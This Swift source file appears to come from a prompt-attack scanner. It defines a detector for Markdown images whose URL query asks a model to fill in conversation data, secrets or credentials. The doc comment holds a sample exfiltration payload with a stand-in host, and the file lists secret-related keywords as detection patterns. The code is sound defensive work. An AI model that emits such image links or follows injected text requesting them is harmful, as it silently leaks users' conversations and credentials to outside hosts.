import LazaretCore

/// A Markdown image whose address asks the model to fill data in: `![x](https://host/p?q={conversation})`.
/// Showing such an image sends the data to its host without a click.
struct ImageExfiltrationDetector: Detector {
  let triggers: [Trigger] = ["](http", "]: http"].map { .literal(Literal(ignoringCase: $0)) }

  private static let longestAddress = 1000
  private static let longestCaption = 200
  private static let openings = ["{", "[", "<", "%7b", "%5b", "$("]
  private static let data = [
    "data", "conversation", "history", "secret", "prompt", "summary", "chat", "message", "context", "email",
    "password", "token", "credential", "user_", "user info", "userinfo", "answer", "response", "base64",
    "encoded", "api_key", "apikey", "content", "input", "output", "previous", "personal", "instructions",
  ]

  func detections(at hits: [Hit], in text: TextBytes) -> [Detection] {
    var found: [Detection] = []
    var readEnd = 0
    for hit in hits where hit.start >= readEnd && (hit.trigger == 1 || isImage(hit.start, in: text)) {
      let start = hit.end - 4
      var end = start
      while end - start < Self.longestAddress, text[end] != 0, text[end] != ")", !text[end].isLineEnd {
        end += 1
      }
      readEnd = end
      if asksForData(start..<end, in: text) {
        found.append(Detection(label: "prompt_attack", span: TextSpan(hit.start, end)))
      }
    }
    return found
  }

  /// True when the query of an address has a place to fill in and says with what.
  private func asksForData(_ range: Range<Int>, in text: TextBytes) -> Bool {
    let address = text.string(range).lowercased()
    guard let query = address.firstIndex(of: "?") else { return false }
    let sent = address[query...]
    guard let place = Self.openings.compactMap({ sent.range($0)?.upperBound }).min() else { return false }
    return Self.data.contains { sent[place...].range($0) != nil }
  }

  /// True when an exclamation mark stands before the bracket that opens the caption.
  private func isImage(_ closing: Int, in text: TextBytes) -> Bool {
    var place = closing - 1
    while closing - place < Self.longestCaption, text[place] != 0, text[place] != "[", !text[place].isLineEnd
    {
      place -= 1
    }
    return text[place] == "[" && text[place - 1] == "!"
  }
}

extension Substring {
  /// The first place of a piece of ASCII.
  fileprivate func range(_ part: String) -> Range<Index>? {
    let pattern = Array(part.utf8)
    var start = utf8.startIndex
    while start != utf8.endIndex {
      if utf8[start...].starts(with: pattern) { return start..<utf8.index(start, offsetBy: pattern.count) }
      utf8.formIndex(after: &start)
    }
    return nil
  }
}
